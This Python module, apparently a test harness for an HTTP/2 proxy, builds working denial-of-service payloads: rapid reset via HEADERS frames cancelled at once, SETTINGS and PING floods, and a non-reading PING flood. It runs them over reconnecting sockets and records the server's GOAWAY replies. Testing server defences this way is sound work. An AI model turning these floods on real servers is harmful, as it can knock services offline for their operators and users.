"""Hostile HTTP/2 clients on plain sockets, for a bounded time: rapid reset, SETTINGS flood, PING flood
(reading or not), each reconnecting after the server's GOAWAY until the time is up.

Frames are built once with hyperframe and hpack (h2's own layers, independent of the proxy's codec) and
written whole, so that the server reads each connection's attack at once. :class:`Attack` runs in a thread
and records what the server answered (:class:`AttackReport`).
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = 0x7
CANCEL = 0x8


def rapid_reset_payload(streams: int, authority: str = "attack") -> bytes:
    """Preface, SETTINGS, then ``streams`` requests each reset at once (RST_STREAM CANCEL)."""
    enc = Encoder()
    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/attack"), (":authority", authority)]
    first = enc.encode(headers)
    again = enc.encode(headers)  # indexed now: a few bytes per request, as an attacker would send
    out = [PREFACE, SettingsFrame(0).serialize()]
    for i in range(streams):
        sid = 1 + 2 * i
        block = first if i == 0 else again
        out.append(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        out.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
    return b"".join(out)


def settings_payload(frames: int) -> bytes:
    one = SettingsFrame(0, settings={0x1: 4096}).serialize()
    return PREFACE + SettingsFrame(0).serialize() + one * frames


def ping_payload(frames: int) -> bytes:
    return PREFACE + SettingsFrame(0).serialize() + PingFrame(0, opaque_data=b"attack!!").serialize() * frames


def goaway_code(data: bytes) -> int | None:
    """The error code of the first GOAWAY among the frames of ``data`` (after the server's own preface-less
    start), or None."""
    i = 0
    n = len(data)
    while n - i >= 9:
        length = int.from_bytes(data[i : i + 3], "big")
        ftype = data[i + 3]
        if i + 9 + length > n:
            break
        if ftype == GOAWAY and length >= 8:
            code: int = struct.unpack_from(">L", data, i + 13)[0]
            return code
        i += 9 + length
    return None


@dataclass
class AttackReport:
    connections: int = 0
    #: GOAWAY error codes received, one per connection that got one.
    goaways: list[int] = field(default_factory=list)
    #: Seconds from the attack's write to the GOAWAY, per connection that got one.
    goaway_after: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


class Attack:
    """Connect, write ``payload`` whole, read until the connection ends (noting a GOAWAY), reconnect;
    for ``seconds`` and at most ``max_connections`` connections."""

    def __init__(
        self, host: str, port: int, payload: bytes, seconds: float, max_connections: int = 2000
    ) -> None:
        self.addr = (host, port)
        self.payload = payload
        self.seconds = seconds
        self.max_connections = max_connections
        self.report = AttackReport()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def running(self) -> bool:
        return self._thread.is_alive()

    def join(self) -> AttackReport:
        self._thread.join(self.seconds + 30)
        return self.report

    def _run(self) -> None:
        deadline = time.monotonic() + self.seconds
        report = self.report
        while time.monotonic() < deadline and report.connections < self.max_connections:
            report.connections += 1
            try:
                self._one(deadline)
            except OSError as exc:
                report.errors.append(repr(exc))

    def _one(self, deadline: float) -> None:
        with socket.create_connection(self.addr, timeout=10) as s:
            t0 = time.monotonic()
            s.sendall(self.payload)
            received = b""
            s.settimeout(max(deadline - time.monotonic(), 0.5) + 5)
            while True:
                try:
                    chunk = s.recv(1 << 20)
                except ConnectionResetError:
                    break
                if not chunk:
                    break
                received += chunk
                code = goaway_code(received)
                if code is not None:
                    self.report.goaways.append(code)
                    self.report.goaway_after.append(time.monotonic() - t0)
                    break


class NonReadingPingFlood:
    """One connection writing PING frames as fast as the socket takes them and never reading, until the
    server closes it or ``seconds`` pass. ``closed_after``: seconds until the server closed it."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.addr = (host, port)
        self.seconds = seconds
        self.sent = 0
        self.closed_after: float | None = None
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def running(self) -> bool:
        return self._thread.is_alive()

    def join(self) -> None:
        self._thread.join(self.seconds + 30)

    def _run(self) -> None:
        chunk = PingFrame(0, opaque_data=b"noread!!").serialize() * 1000
        with socket.create_connection(self.addr, timeout=10) as s:
            # A small receive buffer, so the server's answers back up soon (the attacker wants that).
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            t0 = time.monotonic()
            s.sendall(PREFACE + SettingsFrame(0).serialize())
            s.settimeout(0.2)
            while time.monotonic() - t0 < self.seconds:
                try:
                    self.sent += s.send(chunk)
                except TimeoutError:
                    continue  # the server does not read either: wait
                except OSError:
                    self.closed_after = time.monotonic() - t0
                    return
